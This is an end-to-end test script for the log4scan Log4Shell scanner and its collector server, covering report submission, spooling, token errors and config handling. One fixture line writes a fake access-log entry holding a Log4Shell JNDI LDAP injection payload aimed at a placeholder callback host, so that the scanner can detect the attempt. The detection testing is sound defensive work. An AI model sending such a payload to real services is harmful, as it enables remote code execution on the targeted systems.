#!/usr/bin/env python3
"""t_submit_e2e.py - the agent reports to the collector, end to end.

`log4scan scan --submit` and `log4scan logs --submit` against a real
`log4scan-server` (SQLite): the collector's summary matches what the agent
found; with the collector down the report is spooled (exit status
unaffected) and delivered by the next run; a missing token is refused.
Issue 19: a wrong token (401) or a read token (403) fails loudly (exit 2,
the server's reason, one prefix, nothing spooled); `scan --format json -o
FILE` starts with the envelope and `log4scan submit FILE` sends it (also a
report written by the static agent, build/static/log4scan, when built, and
several reports in one stream on standard input); a file that is not a
report is refused naming the file; `ps --submit` sends a ps report."""
import json
import os
import socket
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from server_common import OUT, Server, check, check_eq, make_token, new_db  # noqa: E402

L4S, CORPUS = os.environ["L4S"], os.environ["CORPUS"]
SPOOL = os.path.join(OUT, "spool")
TREE = os.path.join(OUT, "tree")
os.makedirs(TREE, exist_ok=True)
for name, src in (("a.jar", "log4j-samples/true-hits/log4j-core-2.14.1.jar"),
                  ("b.jar", "log4j-samples/false-hits/log4j-core-2.17.1.jar"),
                  ("c.jar", "google-testdata/log4j-core-2.1.jar.patched")):
    with open(os.path.join(CORPUS, src), "rb") as f, open(os.path.join(TREE, name), "wb") as g:
        g.write(f.read())
LOG = os.path.join(OUT, "access.log")
with open(LOG, "w") as f:
    f.write('198.51.100.4 - - [10/Dec/2021:13:55:36 +0000] "GET /?x=${jndi:ldap://203.0.113.7:1389/a} HTTP/1.1" 200 1\n')


def agent(*args, token=None):
    env = dict(os.environ)
    env.pop("LOG4SCAN_TOKEN", None)
    if token:
        env["LOG4SCAN_TOKEN"] = token
    return subprocess.run([L4S, *args], capture_output=True, text=True, env=env, timeout=300)


db = new_db("sqlite", "e2e")
token = make_token(db, "fleet")
reader = make_token(db, "reader", role="read")
srv = Server(db)
url = "http://127.0.0.1:%d" % srv.port

p = agent("scan", "--format", "json", "--no-config", "--submit", url, "--spool-dir", SPOOL, TREE, token=token)
check_eq("scan --submit exits 1 (vulnerable found)", p.returncode, 1)
check("scan --submit says the report was sent", "sent to" in p.stderr, p.stderr[-300:])
summary = srv.get_json("/api/v1/summary", token=reader)
check_eq("collector counts one device", summary.get("devices"), 1)
check_eq("collector findings match the agent's",
         summary.get("findings"), {"vulnerable": 1, "mitigated": 1, "safe": 1})

p = agent("logs", "--format", "json", "--submit", url, "--spool-dir", SPOOL, LOG, token=token)
check_eq("logs --submit exits 1 (attempt found)", p.returncode, 1)
st, h, data = srv.get("/api/v1/attempts", token=reader)
check("collector has the attempt and its callback host", st == 200 and b"203.0.113.7" in data, data[:300])

# Collector down: the report is spooled, the scan's own verdict stands.
with socket.socket() as s:
    s.bind(("127.0.0.1", 0))
    dead = "http://127.0.0.1:%d" % s.getsockname()[1]
p = agent("scan", "--format", "json", "--no-config", "--submit", dead, "--spool-dir", SPOOL, TREE, token=token)
check_eq("collector down: exit status is the scan's", p.returncode, 1)
check("collector down: report kept in the spool", "kept in" in p.stderr and os.listdir(SPOOL), p.stderr[-300:])
before = srv.get_json("/api/v1/reports", token=reader)
p = agent("scan", "--format", "json", "--no-config", "--submit", url, "--spool-dir", SPOOL, TREE, token=token)
after = srv.get_json("/api/v1/reports", token=reader)
count = lambda r: r.get("total", len(r.get("items", r if isinstance(r, list) else [])))
check("next run delivers the spooled report too", count(after) >= count(before) + 2,
      "before %r after %r" % (count(before), count(after)))
check("spool is empty afterwards", not [f for f in os.listdir(SPOOL) if not f.startswith(".")], os.listdir(SPOOL))

# ---- permanent errors fail loudly, nothing is spooled (issue 19)
for f in os.listdir(SPOOL):
    os.unlink(os.path.join(SPOOL, f))
p = agent("scan", "--format", "json", "--no-config", "--submit", url, "--spool-dir", SPOOL, TREE, token="l4s_wrong")
check_eq("wrong token: exit status 2", p.returncode, 2)
check("wrong token: the server's reason, HTTP 401", "HTTP 401" in p.stderr and "unknown or revoked token" in p.stderr,
      p.stderr[-400:])
check("wrong token: one prefix per line", "submit: submit:" not in p.stderr and
      all(l.startswith("log4scan: ") for l in p.stderr.splitlines()), p.stderr[-400:])
check("wrong token: not said to be a network problem", "not reached" not in p.stderr, p.stderr[-400:])
check("wrong token: nothing spooled", not [f for f in os.listdir(SPOOL) if f.endswith(".ndjson")], os.listdir(SPOOL))
p = agent("scan", "--format", "json", "--no-config", "--submit", url, "--spool-dir", SPOOL, TREE, token=reader)
check_eq("read token: exit status 2", p.returncode, 2)
check("read token: HTTP 403 and the reason", "HTTP 403" in p.stderr and "agent tokens" in p.stderr, p.stderr[-400:])
check("read token: nothing spooled", not [f for f in os.listdir(SPOOL) if f.endswith(".ndjson")], os.listdir(SPOOL))

# ---- saved reports: the envelope first, `log4scan submit FILE` sends them
SAVED = os.path.join(OUT, "saved.json")
p = agent("scan", "--format", "json", "--no-config", "-o", SAVED, "--tag", "airgap", TREE)
check_eq("scan -o FILE exits 1", p.returncode, 1)
lines = open(SAVED, encoding="utf-8").read().splitlines()
env = json.loads(lines[0]) if lines else {}
check("saved report: the envelope is the first record", env.get("kind") == "report" and len(env.get("report_id", "")) == 36,
      lines[:1])
check("saved report: host identity, agent id, options, coverage",
      env.get("host", {}).get("agent_id") and env.get("host", {}).get("tags") == ["airgap"] and
      env.get("coverage", {}).get("paths") == [TREE] and "max_depth" in env.get("options", {}), str(env)[:400])
before = count(srv.get_json("/api/v1/reports", token=reader))
p = agent("submit", "--submit", url, "--spool-dir", SPOOL, SAVED, token=token)
check_eq("submit FILE: exit status 0", p.returncode, 0)
check("submit FILE: says it was sent", env.get("report_id", "?") in p.stderr and "sent to" in p.stderr, p.stderr[-300:])
after = srv.get_json("/api/v1/reports", token=reader)
check_eq("submit FILE: the report landed", count(after), before + 1)
p = agent("submit", "--submit", url, "--spool-dir", SPOOL, SAVED, token=token)
check_eq("submit FILE twice: the collector takes it once", count(srv.get_json("/api/v1/reports", token=reader)),
         before + 1)
# several reports in one stream, on standard input
two = os.path.join(OUT, "two.json")
agent("logs", "--format", "json", "-o", two, LOG)
with open(two, "a") as f:
    f.write(open(SAVED.replace("saved", "saved"), encoding="utf-8").read().replace(env.get("report_id", "x"),
                                                                                 "00000000-0000-4000-8000-00000000beef"))
with open(two) as f:
    p = subprocess.run([L4S, "submit", "--submit", url, "--spool-dir", SPOOL, "-"], stdin=f, capture_output=True,
                       text=True, env=dict(os.environ, LOG4SCAN_TOKEN=token), timeout=120)
check_eq("submit -: two reports from standard input", p.returncode, 0)
check("submit -: both sent", p.stderr.count("sent to") == 2, p.stderr[-400:])
# not a report
plain = os.path.join(OUT, "plain.json")
with open(plain, "w") as f:
    f.write(lines[1] + "\n")
p = agent("submit", "--submit", url, "--spool-dir", SPOOL, plain, token=token)
check_eq("submit of a file without an envelope: exit status 2", p.returncode, 2)
check("submit of a file without an envelope: names the file and what is missing",
      plain in p.stderr and "envelope" in p.stderr, p.stderr[-300:])
p = agent("submit", "--submit", url, "--spool-dir", SPOOL, SAVED, token="l4s_wrong")
check_eq("submit FILE with a wrong token: exit status 2", p.returncode, 2)

# ---- the static agent's saved report lands (issue 19)
STATIC = os.path.join(os.environ.get("TOP", "."), "build/static/log4scan")
if os.access(STATIC, os.X_OK):
    sp = os.path.join(OUT, "static.json")
    q = subprocess.run([STATIC, "scan", "--no-config", "--format", "json", "-o", sp, TREE], capture_output=True,
                       text=True, timeout=300)
    check_eq("static agent: scan -o FILE exits 1", q.returncode, 1)
    q = subprocess.run([STATIC, "submit", sp], capture_output=True, text=True, timeout=60)
    check("static agent: its own submit explains what to do", q.returncode == 2 and "log4scan submit FILE" in q.stderr,
          q.stderr[-300:])
    senv = json.loads(open(sp, encoding="utf-8").readline())
    before = count(srv.get_json("/api/v1/reports", token=reader))
    p = agent("submit", "--submit", url, "--spool-dir", SPOOL, sp, token=token)
    check_eq("static agent's report: submit exits 0", p.returncode, 0)
    got = srv.get_json("/api/v1/reports", token=reader)
    check("static agent's report landed", count(got) == before + 1 and senv["report_id"] in json.dumps(got),
          str(got)[:300])
else:
    check("static agent: build/static/log4scan not built (make static); its report test skipped", True)

# ---- ps --submit
p = agent("ps", "--format", "json", "--submit", url, "--spool-dir", SPOOL, token=token)
check("ps --submit: sent", p.returncode in (0, 1) and "sent to" in p.stderr, p.stderr[-300:])
rep = srv.get_json("/api/v1/reports", token=reader)
check("ps --submit: a ps report in the collector", '"ps"' in json.dumps(rep), str(rep)[:300])

# ---- one agent.conf for every command (issue 19, point 5)
CONF = os.path.join(OUT, "agent.conf")
TOKF = os.path.join(OUT, "token")
with open(TOKF, "w") as f:
    f.write(token + "\n")
with open(CONF, "w") as f:
    f.write("# shared by every command\nsubmit = %s\ntoken-file = %s\nspool-dir = %s\ntag = conf-tag\n"
            "exclude = %s/b.jar\nbackup-dir = %s/backups\nfail-on = high,unknown\n" % (url, TOKF, SPOOL, TREE, OUT))
for cmd in (["scan", "--format", "json", TREE], ["ps", "--format", "json"], ["logs", "--format", "json", LOG]):
    p = agent(cmd[0], "--config", CONF, *cmd[1:])
    check("%s reads agent.conf: its report is sent" % cmd[0], p.returncode in (0, 1) and "sent to" in p.stderr,
          (p.returncode, p.stderr[-300:]))
    first = json.loads(p.stdout.splitlines()[0]) if p.stdout else {}
    check("%s reads agent.conf: the tag is in its envelope" % cmd[0], first.get("host", {}).get("tags") == ["conf-tag"],
          str(first)[:300])
p = agent("scan", "--config", CONF, "--format", "json", TREE)
paths = [json.loads(l).get("path", "") for l in p.stdout.splitlines() if '"kind":"finding"' in l]
check("scan applies the file's exclude", paths and not [x for x in paths if x.endswith("b.jar")], paths)
p = agent("submit", "--config", CONF, SAVED)
check_eq("submit reads the collector and token from agent.conf", p.returncode, 0)
with open(CONF, "a") as f:
    f.write("exclud = typo\n")
for cmd in ("scan", "ps", "logs", "submit", "fix", "restore"):
    p = agent(cmd, "--config", CONF, "--help")
    check("%s: a wrong name in agent.conf stops it with file and line" % cmd,
          p.returncode == 2 and CONF + ":9: unknown option 'exclud'" in p.stderr, p.stderr[-200:])

p = agent("scan", "--no-config", "--submit", url, TREE)
check_eq("--submit without a token is refused", p.returncode, 2)
p = agent("scan", "--no-config", "--token", "x", TREE)
check_eq("--token without --submit is refused", p.returncode, 2)
p = agent("scan", "--no-config", "--format", "text", "--tag", "x", TREE)
check_eq("--tag with neither --submit nor JSON is refused", p.returncode, 2)
check_eq("collector exits cleanly", srv.stop(), 0)
